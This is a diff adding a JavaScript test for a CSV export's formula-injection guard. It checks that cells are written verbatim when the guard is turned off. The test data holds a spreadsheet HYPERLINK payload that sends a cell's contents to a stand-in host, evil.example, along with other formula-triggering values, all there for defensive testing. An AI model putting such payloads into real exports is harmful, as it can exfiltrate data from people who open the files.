@@ -58,6 +58,21 @@ describe('writeExport files', () => {
     expect(read('disclosures.csv')[0]).toBe('i'.charCodeAt(0)); // no BOM by default
   });
 
+  it('records the guard in datapackage.json, and with formulaGuard: false writes every cell verbatim (still valid)', async () => {
+    await writeExport(DATA, { out: join(dir, 'out'), formats: ['csv'] });
+    expect(JSON.parse(read('datapackage.json').toString()).formulaGuard).toMatchObject({ applied: true, prefix: "'" });
+    await writeExport(DATA, { out: join(dir, 'raw'), formats: ['csv'], formulaGuard: false });
+    const raw = read('disclosures.csv', join(dir, 'raw')).toString('utf8');
+    expect(raw).toContain(`,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
+    expect(raw).toContain(`,@SUM(1+1); -2+3; \tTabbed; '=already quoted,west-midlands,,,false,\r\n`);
+    expect(read('figures.csv', join(dir, 'raw')).toString('utf8')).toContain(',-minus first,');
+    const pkg = JSON.parse(read('datapackage.json', join(dir, 'raw')).toString());
+    expect(pkg.formulaGuard).toMatchObject({ applied: false });
+    // The validator reads the cells back as written: no apostrophe taken off what had none.
+    const report = await validatePath(join(dir, 'raw'));
+    expect(report.violations.map(formatViolation)).toEqual([]);
+  });
+
   it('adds a UTF-8 BOM with excel', async () => {
     await writeExport(DATA, { out: join(dir, 'out'), formats: ['csv'], excel: true });
     expect([...read('questions.csv').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
